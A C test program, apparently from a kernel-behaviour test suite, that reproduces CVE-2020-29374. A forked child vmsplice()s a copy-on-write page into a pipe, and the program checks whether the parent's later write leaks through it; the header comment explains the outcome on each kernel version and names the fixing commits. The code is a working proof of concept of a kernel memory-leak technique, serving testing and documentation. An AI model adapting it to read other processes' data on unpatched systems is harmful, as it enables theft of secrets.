/* CVE-2020-29374 (Jann Horn, "COW can break either way"): the child vmsplice()s a COW-shared
 * page into a pipe (a read-only get_user_pages_fast reference, not a copy), unmaps it, and the
 * parent then writes a secret into its copy of the page. Whether the child's pipe returns the
 * secret depends on the COW rule (kernel-semantics.md §3, scenario 4d vmsplice variant;
 * userspace-api.md §3.4):
 *   E1-E3 (3.2, 4.4, 4.19, 5.4): do_wp_page reuses a page whose mapcount is 1, and the child's
 *     munmap left mapcount 1 -> the parent writes into the very page the pipe references: LEAK
 *     (vmsplice_cow_leak.{3.2,4.4,4.19,5.4}.expected).
 *   E4 (5.8): "gup: document and work around 'COW can break either way' issue" (17839856fd58)
 *     makes the child's GUP break COW first: the pipe holds the child's own copy -> no leak.
 *   E5+ (5.9 "mm: do_wp_page() simplification", 09854ba94c6a): the pipe's reference makes the
 *     refcount > 1, so the parent's write copies -> no leak (5.10, 6.1, 6.6 and this 6.18 machine).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096

int main(void) {
  char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (page == MAP_FAILED) { perror("mmap"); return 1; }
  strcpy(page, "parent-secret-v1");
  int ready[2], go[2];
  if (pipe(ready) || pipe(go)) { perror("pipe"); return 1; }
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    int p[2];
    char c, buf[PAGE];
    if (pipe(p)) { perror("pipe"); _exit(1); }
    struct iovec iov = { page, PAGE };
    ssize_t n = vmsplice(p[1], &iov, 1, 0);
    int um = munmap(page, PAGE);
    write(ready[1], "r", 1);
    read(go[0], &c, 1);
    ssize_t got = 0;
    while (got < n) {
      ssize_t r = read(p[0], buf + got, n - got);
      if (r <= 0) break;
      got += r;
    }
    printf("child: vmsplice -> %zd, munmap -> %d, read back %zd bytes: \"%s\"\n", n, um, got, buf);
    printf("child: %s\n", strcmp(buf, "parent-secret-v2") == 0 ? "LEAK: the pipe shows the parent's later write"
                                                                 : "no leak: the pipe kept the old contents");
    fflush(stdout);
    _exit(0);
  }
  char c;
  read(ready[0], &c, 1);
  strcpy(page, "parent-secret-v2");
  write(go[1], "g", 1);
  int st;
  waitpid(pid, &st, 0);
  printf("parent: page holds \"%s\", child exit %d\n", page, WIFEXITED(st) ? WEXITSTATUS(st) : -1);
  return 0;
}
